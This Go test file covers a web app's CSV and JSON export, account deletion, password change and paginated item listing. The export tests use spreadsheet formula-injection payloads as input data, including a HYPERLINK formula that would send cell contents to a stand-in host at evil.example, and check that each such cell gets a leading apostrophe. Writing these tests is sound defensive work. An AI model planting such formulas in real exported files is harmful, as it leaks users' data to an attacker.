	if len(rows) != 4 || rows[0][0] != "id" || rows[0][1] != "title" || rows[2][1] != "two, with \"quotes\"" || rows[2][2] != "body of two, with \"quotes\"\nline 2" || rows[3][1] != "three, café" {
		t.Errorf("CSV export rows = %q", rows)
	}
	if r := alice.submit("/export", "/export", url.Values{"format": {"xml"}}); r.status != http.StatusBadRequest {
		t.Errorf("unknown format: status %d, want 400", r.status)
	}
	if act := alice.get("/activity"); strings.Count(act.body, "Items exported") != 2 {
		t.Errorf("activity log shows %d exports, want 2", strings.Count(act.body, "Items exported"))
	}
}

// csvRows reads a CSV export, which starts with a UTF-8 byte order mark,
// so that a spreadsheet opening it reads its text as UTF-8.
func csvRows(body string) ([][]string, error) {
	rest, ok := strings.CutPrefix(body, "\ufeff")
	if !ok {
		return nil, fmt.Errorf("the CSV does not start with a UTF-8 byte order mark: %.20q", body)
	}
	return csv.NewReader(strings.NewReader(rest)).ReadAll()
}

// TestExport_CSVFormulas: in the CSV, a title or text that a spreadsheet
// would run as a formula begins with an apostrophe; other text and the JSON
// export are exact.
func TestExport_CSVFormulas(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	cells := map[string]string{ // text → the CSV cell it becomes
		`=HYPERLINK("https://evil.example/?"&C2)`: `'=HYPERLINK("https://evil.example/?"&C2)`,
		"+1":       "'+1",
		"-2":       "'-2",
		"@SUM(1)":  "'@SUM(1)",
		"plain":    "plain",
		"a = b":    "a = b",
		"-":        "'-",
		"1 - 2":    "1 - 2",
		"=":        "'=",
		"é=accent": "é=accent",
		"\tTAB":    "'\tTAB",
		"\rCR":     "'\rCR",
	}
	// Each text is the item's title too, where a title may hold it: a tab or
	// a line break can only lead the text.
	const bodyOnly = "Text only"
	for text := range cells {
		title := text
		if strings.ContainsAny(text, "\t\r\n") {
			title = bodyOnly
		}
		alice.createItem(title, text)
	}
	// The export page names every leading character that gets the apostrophe.
	page := alice.get("/export").body
	for _, lead := range []string{"<code>=</code>", "<code>+</code>", "<code>-</code>", "<code>@</code>", "a tab", "a carriage return"} {
		if !strings.Contains(page, lead) {
			t.Errorf("the export page does not say that a cell beginning with %s gets an apostrophe", lead)
		}
	}
	r := alice.submit("/export", "/export", url.Values{"format": {"csv"}})
	rows, err := csvRows(r.body)
	if err != nil || len(rows) != len(cells)+1 {
		t.Fatalf("CSV export: %d rows, %v:\n%s", len(rows), err, r.body)
	}
	got := map[string]bool{}
	for _, row := range rows[1:] {
		got[row[2]] = true
		if row[1] != bodyOnly && row[1] != row[2] {
			t.Errorf("CSV row %q: title and text cells differ", row)
		}
	}
	for text, cell := range cells {
		if !got[cell] {
			t.Errorf("CSV export has no cell %q for the text %q", cell, text)
		}
	}
	var items []struct{ Title, Body string }
	r = alice.submit("/export", "/export", url.Values{"format": {"json"}})
	if err := json.Unmarshal([]byte(r.body), &items); err != nil {
		t.Fatalf("JSON export does not parse: %v", err)
	}
	for _, it := range items {
		if _, ok := cells[it.Body]; !ok || (it.Title != it.Body && it.Title != bodyOnly) {
			t.Errorf("JSON export item %q / %q: want the exact text", it.Title, it.Body)
		}
	}
}

// TestExport_CSVOtherSeparators: Excel set up for another list separator
// (";" where the decimal mark is a comma) opens a comma-separated file one
// line to a column and splits each line at ";" alone, so the commas and the
// quotes of the CSV no longer say where a cell starts: after a ";", and on
// each line of a text with line breaks, a new cell can start a formula. The
// test reads the file that way, at its most naive (split every line at ";"
// and at tabs, a quote opening a cell dropped), and no cell may start one.
func TestExport_CSVOtherSeparators(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	title := `Notes;=HYPERLINK("https://evil.example/?"&A1;"x")`
	body := "milk\n- eggs\n=1+1;@SUM(1)\t+2;;-3"
	alice.createItem(title, body)
	r := alice.submit("/export", "/export", url.Values{"format": {"csv"}})
	split := func(c rune) bool { return strings.ContainsRune(";\t\r\n", c) }
	for _, cell := range strings.FieldsFunc(r.body, split) {
		if cell = strings.TrimPrefix(cell, `"`); cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("read split at semicolons, a cell starts a formula: %q", cell)
		}
	}
	// Read with commas, each cell is the text with an apostrophe before
	// every such start.
	rows, err := csvRows(r.body)
	wantTitle := `Notes;'=HYPERLINK("https://evil.example/?"&A1;"x")`
	wantBody := "milk\n'- eggs\n'=1+1;'@SUM(1)\t'+2;;'-3"
	if err != nil || len(rows) != 2 || rows[1][1] != wantTitle || rows[1][2] != wantBody {
		t.Errorf("CSV export read with commas: %q, %v; want title %q and text %q", rows, err, wantTitle, wantBody)
	}
}

// TestDeleteAccount deletes an account with items, shares both ways, an
// allowlist and two sessions, then scans the whole data table: nothing of
// the user is left, and the other user's data is intact.
func TestDeleteAccount(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	srv := newServer(t, env, app.Config{})
	alice := user(t, srv, "alice")
	other := newTab(t, srv) // a second session of alice
	if r := other.login("alice", testPassword); r.status != http.StatusSeeOther {
		t.Fatalf("second login: status %d", r.status)
	}
	bob := user(t, srv, "bob")
	for i := range 3 {
		id := alice.createItem("item "+string(rune('a'+i)), "text")
		if i == 0 {
			alice.share(id, "bob")
		}
	}
	bobs := bob.createItem("bob's", "kept")
	bob.share(bobs, "alice")
	v := versionRE.FindStringSubmatch(alice.get("/account").body)[1]
	alice.submit("/account", "/account/embed-origins", url.Values{"version": {v}, "origins": {"https://blog.example"}})

	if r := alice.submit("/account/delete", "/account/delete", url.Values{"password": {"wrong password here"}}); r.status != http.StatusUnprocessableEntity {
		t.Errorf("delete with a wrong password: status %d, want 422", r.status)
	}
	if r := alice.submit("/account/delete", "/account/delete", url.Values{"password": {testPassword}}); r.status != http.StatusOK || !strings.Contains(r.body, "has been deleted") {
		t.Fatalf("delete account: status %d", r.status)
	}
	if alice.loggedIn() || other.loggedIn() {
		t.Errorf("a session of the deleted account still works")
	}

	ctx := context.WithoutCancel(t.Context())
	p := dynamodb.NewScanPaginator(env.Client, &dynamodb.ScanInput{TableName: aws.String(env.Tables.Data), ConsistentRead: aws.Bool(true)})
	left := 0
	for p.HasMorePages() {
		out, err := p.NextPage(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, av := range out.Items {
			var rec map[string]any
			if err := attributevalue.UnmarshalMap(av, &rec); err != nil {
				t.Fatal(err)
			}
			pk, _ := rec["pk"].(string)
			if !strings.HasPrefix(pk, "USER#bob") && !strings.HasPrefix(pk, "REF#") {
				t.Errorf("record left outside bob's data: %v", rec)
			}
			if rec["owner"] == "alice" || rec["grantee"] == "alice" || rec["username"] == "alice" ||
				strings.Contains(pk, "alice") || strings.HasSuffix(rec["sk"].(string), "#alice") {
				t.Errorf("record of alice left: %v", rec)
			}
			if rec["type"] == "audit" {
				continue // bob's log may say he shared with alice
			}
			left++
		}
	}
	if left != 4 { // bob's profile, item, item count, ref
		t.Errorf("%d records other than bob's audit log, want 4 (profile, item, item count, ref)", left)
	}
	if r := bob.get("/items/" + bobs); r.status != http.StatusOK || strings.Contains(r.body, "Shared with 1") {
		t.Errorf("bob's item after alice left: status %d, share count not reset", r.status)
	}
}

// TestChangePassword: the current password is required, the new one is
// validated and confirmed, and a change ends every other session while
// renewing this one.
func TestChangePassword(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	other := loginAgain(t, srv, "alice")
	const next = "a different long passphrase"
	for _, tc := range []struct {
		name, current, next, confirm, want string
	}{
		{"wrong current", "not the password", next, next, "current password is not correct"},
		{"too short", testPassword, "short", "short", "at least 12 characters"},
		{"confirmation differs", testPassword, next, next + "!", "confirmation differ"},
	} {
		r := alice.submit("/account", "/account/password", url.Values{"current_password": {tc.current}, "new_password": {tc.next}, "confirm_password": {tc.confirm}})
		if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, tc.want) {
			t.Errorf("%s: status %d, want 422 saying %q", tc.name, r.status, tc.want)
		}
	}
	before := alice.cookie()
	r := alice.submit("/account", "/account/password", url.Values{"current_password": {testPassword}, "new_password": {next}, "confirm_password": {next}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("change password: status %d", r.status)
	}
	if alice.cookie() == before || alice.cookie() == "" {
		t.Errorf("session token not renewed by the password change")
	}
	if !alice.loggedIn() {
		t.Errorf("the session that changed the password was logged out")
	}
	if other.loggedIn() {
		t.Errorf("another session survived the password change")
	}
	if r := newTab(t, srv).login("alice", testPassword); r.status == http.StatusSeeOther {
		t.Errorf("the old password still logs in")
	}
	if r := newTab(t, srv).login("alice", next); r.status != http.StatusSeeOther {
		t.Errorf("the new password does not log in: status %d", r.status)
	}
	if act := alice.get("/activity"); !strings.Contains(act.body, "Password changed") {
		t.Errorf("password change not in the activity log")
	}
}

var olderRE = regexp.MustCompile(`href="(/items\?cursor=[^"]+)"`)

// TestItemsPagination: /items shows 20 items per page, newest first, and
// links to the next page with a DynamoDB cursor; a forged cursor is a 400.
func TestItemsPagination(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	srv := newServer(t, env, app.Config{})
	alice := user(t, srv, "alice")
	user(t, srv, "bob")
	for i := range 25 {
		if _, err := env.Store.CreateItem(t.Context(), "alice", fmt.Sprintf("item %02d", i), "", store.Actor{}); err != nil {
			t.Fatal(err)
		}
	}
	first := alice.get("/items")
	if n := strings.Count(first.body, `class="item-row"`); n != 20 {
		t.Errorf("first page: %d items, want 20", n)
	}
	if !strings.Contains(first.body, "item 24") || strings.Contains(first.body, "item 04") {
		t.Errorf("first page is not the 20 newest items")
	}
	m := olderRE.FindStringSubmatch(first.body)
	if m == nil {
		t.Fatal("first page has no link to older items")
	}
	second := alice.get(html.UnescapeString(m[1]))
	if n := strings.Count(second.body, `class="item-row"`); n != 5 || !strings.Contains(second.body, "item 00") {
		t.Errorf("second page: %d items, want the 5 oldest", n)
	}
	if olderRE.MatchString(second.body) {
		t.Errorf("last page links to an older page")
	}
	// alice's cursor is refused in bob's listing.
	bob := newTab(t, srv)
	bob.login("bob", testPassword)
	if r := bob.get(html.UnescapeString(m[1])); r.status != http.StatusBadRequest {
		t.Errorf("another user's cursor: status %d, want 400", r.status)
	}
	if r := alice.get("/items?cursor=%25%25garbage"); r.status != http.StatusBadRequest {
		t.Errorf("garbage cursor: status %d, want 400", r.status)
	}
}
